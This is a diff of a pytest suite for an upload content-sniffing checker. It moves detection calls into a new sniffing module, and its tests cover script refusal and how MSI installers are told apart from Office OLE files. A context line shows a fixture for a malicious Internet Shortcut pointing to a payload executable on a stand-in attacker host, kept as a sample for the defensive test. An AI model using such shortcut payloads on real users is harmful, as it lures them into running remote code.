@@ -6,12 +6,13 @@ import uuid
 
 import pytest
 
+from landing.s3 import sniffing
 from landing.uploads import content
 from tests.support import files
 
 
 def check(declared: str, data: bytes) -> str | None:
-    return content.violation(declared, content.detect(data))
+    return content.violation(declared, sniffing.detect(data))
 
 
 @pytest.mark.parametrize(
@@ -31,7 +32,7 @@ def check(declared: str, data: bytes) -> str | None:
 def test_files_that_are_what_they_declare_pass(data, declared, detected):
     assert check(declared, data) is None
     if detected is not None:
-        assert content.detect(data).media_type == detected
+        assert sniffing.detect(data).media_type == detected
 
 
 @pytest.mark.parametrize(
@@ -134,7 +135,7 @@ def test_image_family_accepts_another_image_format():
 
 
 def test_empty_bytes_detect_nothing():
-    assert content.detect(b"") is None
+    assert sniffing.detect(b"") is None
     assert content.violation("image/png", None) is None
 
 
@@ -166,7 +167,7 @@ URL = b"[InternetShortcut]\r\nURL=file://attacker.example/share/payload.exe\r\n"
 )
 @pytest.mark.parametrize("declared", ["text/plain", "application/octet-stream", "text/csv"])
 def test_script_formats_without_a_magic_number_are_refused_where_their_bytes_tell(data, label, declared):
-    detected = content.detect(data)
+    detected = sniffing.detect(data)
 
     assert detected is not None and detected.executable and detected.label == label
     assert check(declared, data).endswith(f"executables and scripts are not accepted as {declared}")
@@ -179,17 +180,17 @@ def test_html_and_xml_that_run_nothing_are_still_text():
 
 def first_window(data: bytes) -> tuple[bytes, bytes]:
     """What ingest reads: the first 4 KiB, and the OLE root entry fetched where the header says it is."""
-    offset = content.root_entry_offset(data)
+    offset = sniffing.root_entry_offset(data)
     assert offset is not None
-    return data[:4096], data[offset : offset + content.DIRECTORY_ENTRY_BYTES]
+    return data[:4096], data[offset : offset + sniffing.DIRECTORY_ENTRY_BYTES]
 
 
 def test_an_msi_whose_directory_lies_past_the_first_4_kib_is_an_installer():
     data = files.msi(directory_sector=12)
     window, root = first_window(data)
-    assert content.root_entry_offset(data) == 13 * 512 > len(window)
+    assert sniffing.root_entry_offset(data) == 13 * 512 > len(window)
 
-    detected = content.detect(window, root)
+    detected = sniffing.detect(window, root)
 
     assert (detected.media_type, detected.label) == ("application/x-msi", "a Windows Installer package (MSI)")
     for declared in ("application/msword", "application/vnd.ms-excel", "application/octet-stream"):
@@ -201,15 +202,15 @@ def test_the_installer_clsid_is_compared_as_ole_stores_it_little_endian():
     data = files.msi()
     # DESIGN.md's pitfall: {000C1084-0000-0000-C000-000000000046} as uuid bytes_le.
     assert data[512 + 0x50 : 512 + 0x60].hex() == "84100c0000000000c000000000000046"
-    assert content.detect(data).executable
+    assert sniffing.detect(data).executable
     big_endian = files.ole(clsid=str(uuid.UUID(bytes_le=uuid.UUID(files.MSI_CLSID).bytes)))
-    assert not content.detect(big_endian).executable
+    assert not sniffing.detect(big_endian).executable
 
 
 def test_an_ole_file_whose_root_storage_is_not_read_counts_as_a_possible_installer():
     window, _ = first_window(files.ole(files.WORD_CLSID, directory_sector=12))
 
-    detected = content.detect(window)
+    detected = sniffing.detect(window)
 
     assert detected.executable and "possibly an installer" in detected.label
     assert check("application/octet-stream", window) is not None
@@ -218,7 +219,7 @@ def test_an_ole_file_whose_root_storage_is_not_read_counts_as_a_possible_install
 def test_an_office_file_whose_directory_lies_past_the_first_4_kib_passes_once_its_root_is_read():
     window, root = first_window(files.ole(files.WORD_CLSID, directory_sector=12))
 
-    detected = content.detect(window, root)
+    detected = sniffing.detect(window, root)
 
     assert not detected.executable
     assert content.violation("application/msword", detected) is None
